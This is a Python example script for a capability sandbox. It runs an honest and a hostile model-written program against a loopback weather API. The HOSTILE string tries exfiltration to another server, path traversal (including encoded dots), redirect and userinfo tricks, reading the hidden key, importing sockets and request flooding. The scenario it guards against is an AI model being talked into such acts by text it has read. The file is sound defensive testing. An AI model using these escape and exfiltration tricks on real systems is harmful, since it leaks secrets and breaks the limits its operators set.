"""A model's program may query one HTTPS API: python examples/caps_language_model_tool.py

The model's program gets `http`, which may GET below one address, twenty times; the key of the API is sent
along and is not the program's. So whatever the model was talked into, by a text that it has read, say, goes
nowhere else.

Here the API is a server on loopback, and the rule names its address. For a real one the grant reads

    caps.Http(
        ["https://api.example.org/v1/*"],
        ["GET"],
        send={"https://api.example.org": {"Authorization": f"Bearer {key}"}},
    )

and then private and loopback addresses are refused even where the name of the API leads to one. Needs
urllib3: pip install 'objcap[http]'.
"""

import json
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import objcap
from objcap import caps

KEY = "key-of-the-application"
WEATHER = {"Oslo": 4, "Rome": 19}

HONEST = """
towns = http.get(api + "/v1/towns")["json"]
for town in towns:
    answer = http.get(f"{api}/v1/weather/{town}")
    print(town, answer["json"]["degrees"])
max(towns, key=lambda town: http.get(f"{api}/v1/weather/{town}")["json"]["degrees"])
"""

HOSTILE = """
def attempt(what, function):
    try:
        print(f"{what}: DONE, {function()!r:.60}")
    except Exception as error:
        print(f"{what}: {type(error).__name__}")

port = api.rpartition(":")[2]
attempt("another server", lambda: http.get(elsewhere + "/?stolen=notes"))
attempt("another path", lambda: http.get(api + "/admin/keys"))
attempt("another path, by dots", lambda: http.get(api + "/v1/../admin/keys"))
attempt("another path, by escaped dots", lambda: http.get(api + "/v1/%2e%2e/admin/keys"))
attempt("a redirect to another path", lambda: http.get(api + "/v1/moved"))
attempt("a redirect to another server", lambda: http.get(api + "/v1/away"))
attempt("the same machine by its name", lambda: http.get(f"http://localhost:{port}/v1/towns"))
attempt("a user before the name", lambda: http.get(f"{api}@{elsewhere[7:]}/v1/towns"))
attempt("to change something", lambda: http.post(api + "/v1/towns", json=["Nowhere"]))
attempt("a header of its own", lambda: http.get(api + "/v1/towns", headers={"Authorization": "Bearer mine"}))
attempt("the key", lambda: http._send)
attempt("a socket", lambda: __import__("socket"))
attempt("a thousand requests", lambda: [http.get(api + "/v1/towns") for _ in range(1000)])
"""


class Api(BaseHTTPRequestHandler):
    """The API, and the server that is not to be reached."""

    def do_GET(self) -> None:
        server = self.server
        assert isinstance(server, Server)
        server.asked.append(self.path)
        moved = {"/v1/moved": "/admin/keys", "/v1/away": f"{server.elsewhere}/v1/towns"}.get(self.path)
        value: object = list(WEATHER)
        if self.path.startswith("/v1/weather/"):
            value = {"degrees": WEATHER.get(self.path.rpartition("/")[2])}
        if self.headers["Authorization"] != f"Bearer {KEY}":
            value, moved = {"error": "no key"}, None
        body = json.dumps(value).encode()
        self.send_response(302 if moved else 200)
        if moved:
            self.send_header("Location", moved)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *arguments: object) -> None:
        pass


class Server(ThreadingHTTPServer):
    """Serves in a thread of its own; `asked` is what it was asked for."""

    def __init__(self, elsewhere: str = "") -> None:
        super().__init__(("127.0.0.1", 0), Api)
        self.elsewhere = elsewhere
        self.asked: list[str] = []
        self.url = f"http://127.0.0.1:{self.server_address[1]}"
        threading.Thread(target=self.serve_forever, daemon=True).start()


def run(source: str, api: str, elsewhere: str) -> None:
    """Run a program of the model's, and show what it has printed."""
    http = caps.Http([f"{api}/v1/*"], ["GET"], send={api: {"Authorization": f"Bearer {KEY}"}}, timeout=5.0)
    grant = {"http": caps.limited(http, calls=20, bytes=1_000_000)}
    with objcap.Sandbox(memory="64 MiB", cpu=2.0, wall=20.0, grant=grant, snapshots=False) as box:
        try:
            result = box.run(source, {"api": api, "elsewhere": elsewhere}, filename="model.py")
            print(result.stdout, end="")
            if result.value is not None:
                print("answer:", result.value)
        except objcap.SandboxError as error:
            print(f"failed: {error}")


def main() -> None:
    other = Server()
    server = Server(other.url)
    run(HONEST, server.url, other.url)
    print("---")
    server.asked.clear()
    run(HOSTILE, server.url, other.url)
    print("---")
    print("the other server was asked for:", other.asked or "nothing")
    outside = [path for path in server.asked if not path.startswith("/v1/")]
    print("of the API, outside of /v1/:", outside or "nothing")
    print("requests that were made:", len(server.asked))


if __name__ == "__main__":
    main()
